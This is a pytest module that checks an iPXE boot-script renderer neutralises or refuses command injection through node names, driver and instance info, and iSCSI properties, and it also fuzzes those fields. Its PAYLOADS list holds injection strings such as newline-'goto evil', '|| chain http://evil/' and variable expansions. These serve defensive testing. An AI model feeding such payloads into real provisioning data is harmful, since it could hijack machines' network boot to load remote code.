"""No node field can inject iPXE commands: newlines, ``||``/``&&``, ``goto``,
``${...}`` and quotes in names, driver_info, kernel arguments, URLs and SAN
properties are either neutralised (console text) or refused with a clear
reason (everything that is executed)."""

from __future__ import annotations

import random
import re
from typing import Any

import pytest

from services.ipxe import safety
from services.ipxe.interpret import interpret_script
from services.ipxe.render import template_environment
from tests.unit.test_ipxe_scenarios import ISCSI_CONNECTOR, KERNEL, MAC, RAMDISK, iscsi_target, node, render

PAYLOADS = [
    "x\ngoto evil",
    "x\r\nchain http://evil/",
    "x || goto evil",
    "x && chain http://evil/",
    "${net0/mac}",
    "${uuid:hexhyp}",
    "x\n:ferrum_retry",
    "x\x00y",
    "x\tchain",
    'a"b c"',
    "x`id`",
    "x\\\nchain http://evil/",
    "||",
    "&&",
    "#!ipxe\nchain http://evil/",
    "x; chain http://evil/",
    " ; chain http://evil/",
]
COMMANDS = {
    "#!ipxe",
    "set",
    "clear",
    "inc",
    "iseq",
    "isset",
    "imgfree",
    "echo",
    "kernel",
    "initrd",
    "boot",
    "goto",
    "sleep",
    "exit",
    "sanhook",
    "sanboot",
    "chain",
}
LABELS = {"ferrum_deploy", "ferrum_retry", "ferrum_fail", "ferrum_instance", "ferrum_san"}
OUR_VARIABLES = {"${mac:hexhyp}", "${ferrum_attempt}"}


def assert_only_our_commands(script: str) -> None:
    """Every executed line is one of ours; every ${..}, ||, && and label is ours."""
    for line in script.splitlines():
        if line.startswith("# ") or line == "#!ipxe":
            assert "\r" not in line
            continue
        first = line.split()[0]
        assert first in COMMANDS or (first.startswith(":") and first[1:] in LABELS), line
        assert set(re.findall(r"\$\{[^}]*\}", line)) <= OUR_VARIABLES, line
        if first == "echo":
            assert "||" not in line and "&&" not in line, line
        assert "evil" not in line or first == "echo", line


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_node_name_is_sanitised_not_refused(payload: str) -> None:
    rendered = await render(node("deploying", name=payload), {"mac": MAC})
    assert rendered.kind == "deploy"
    assert_only_our_commands(rendered.script)
    action = interpret_script(rendered.script, {"mac": MAC})
    assert action.kind == "kernel" and action.kernel_url == KERNEL and action.initrd_urls == (RAMDISK,)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("field", ["deploy_kernel", "deploy_ramdisk", "kernel_append_params"])
async def test_driver_info_injection_is_refused(payload: str, field: str) -> None:
    info: dict[str, Any] = {"deploy_kernel": KERNEL, "deploy_ramdisk": RAMDISK}
    info[field] = (KERNEL + payload) if field != "kernel_append_params" else payload
    rendered = await render(node("deploying", driver_info=info), {"mac": MAC})
    assert rendered.kind == "error", rendered.script
    assert field in rendered.reason
    assert_only_our_commands(rendered.script)
    assert interpret_script(rendered.script, {"mac": MAC}).kind in ("error", "kernel")


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_instance_info_injection_is_refused(payload: str) -> None:
    for key in ("kernel", "ramdisk_kernel_arguments", "kernel_append_params"):
        instance = {
            "kernel": "http://192.0.2.9/k",
            "ramdisk": "http://192.0.2.9/r",
            key: "http://192.0.2.9/k" + payload,
        }
        rendered = await render(node("active", deploy_interface="ramdisk", instance_info=instance), {"mac": MAC})
        assert rendered.kind == "error" and key in rendered.reason, (key, rendered.script)
        assert_only_our_commands(rendered.script)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_san_properties_injection_is_refused(payload: str) -> None:
    cases = [
        {"target_iqn": "iqn.2010-10.org.openstack:v" + payload},
        {"target_portal": "192.0.2.20" + payload},
        {"auth_method": "CHAP", "auth_username": "u" + payload, "auth_password": "p"},
        {"auth_method": "CHAP", "auth_username": "u", "auth_password": "p" + payload},
    ]
    for props in cases:
        data = node("active", targets=(iscsi_target(0, **props),), connectors=ISCSI_CONNECTOR)
        rendered = await render(data, {"mac": MAC})
        assert rendered.kind == "error", (props, rendered.script)
        assert_only_our_commands(rendered.script)
    bad_initiator = ({"type": "iqn", "connector_id": "iqn.2004-10.org.example:n" + payload},)
    rendered = await render(node("active", targets=(iscsi_target(0),), connectors=bad_initiator), {"mac": MAC})
    assert rendered.kind == "error" and "iqn" in rendered.reason


def test_guard_refuses_unchecked_values_in_templates() -> None:
    env = template_environment()
    for bad in ("x\ngoto evil", "${uuid}", "a || b", 'a"b', "a && b"):
        with pytest.raises(safety.UnsafeValue):
            env.get_template("error.ipxe.j2").render(reason=bad, reason_lines=["ok"], uuid="")
    with pytest.raises(safety.UnsafeValue):
        env.get_template("error.ipxe.j2").render(reason=None, reason_lines=["ok"], uuid="")


def test_checkers() -> None:
    assert safety.normalize_mac("52-54-00-AB-CD-EF") == "52:54:00:ab:cd:ef"
    assert safety.normalize_mac("525400abcdef") == "52:54:00:ab:cd:ef"
    for bad in ("52:54:00:ab:cd", "52:54:00:ab:cd:eg", "52:54:00:ab:cd:ef:00", "52:54:00:ab:cd:ef\n||", 5):
        with pytest.raises(safety.UnsafeValue):
            safety.normalize_mac(bad)
    assert safety.check_url("http://h:1/a?b=c&d=e", field="u") == "http://h:1/a?b=c&d=e"
    for bad in ("ftp://h/x", "http://", "http:/h", "/x", "http://h/x y", "http://h/${x}", "http://h/a|b", ""):
        with pytest.raises(safety.UnsafeValue):
            safety.check_url(bad, field="u")
    assert safety.check_kernel_args("  a=1   b  ", field="k") == "a=1 b"
    assert safety.sanitize_text("a\nb${c}||d") == "a_b__c___d"
    assert safety.check_wwn("20-00-00-1F-16-BC-FE-2F", field="w") == "20:00:00:1f:16:bc:fe:2f"
    assert safety.check_nfs("10.0.0.1", "/srv/root", "") == "10.0.0.1:/srv/root"


async def test_fuzzed_fields_never_escape() -> None:
    """Random strings over a hostile alphabet in every field: our commands only, always."""
    rng = random.Random(20261123)
    alphabet = "ab:/.=-_ \n\r\t$|{}&\"'`\\#;!%?@[]()~,+" + "\x00\x1b"
    fields = ("name", "deploy_kernel", "deploy_ramdisk", "kernel_append_params")
    for _ in range(300):
        values = {f: "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24))) for f in fields}
        info = {
            "deploy_kernel": "http://h/" + values["deploy_kernel"],
            "deploy_ramdisk": "http://h/" + values["deploy_ramdisk"],
            "kernel_append_params": values["kernel_append_params"],
        }
        rendered = await render(node("deploying", name=values["name"], driver_info=info), {"mac": MAC})
        assert_only_our_commands(rendered.script)
        action = interpret_script(rendered.script, {"mac": MAC})
        if rendered.kind == "deploy":
            assert action.kind == "kernel" and action.kernel_url == info["deploy_kernel"]
            assert action.kernel_args.endswith("BOOTIF=01-52-54-00-12-34-56 initrd=deploy_ramdisk")
        else:
            assert rendered.kind == "error" and action.kind == "error"
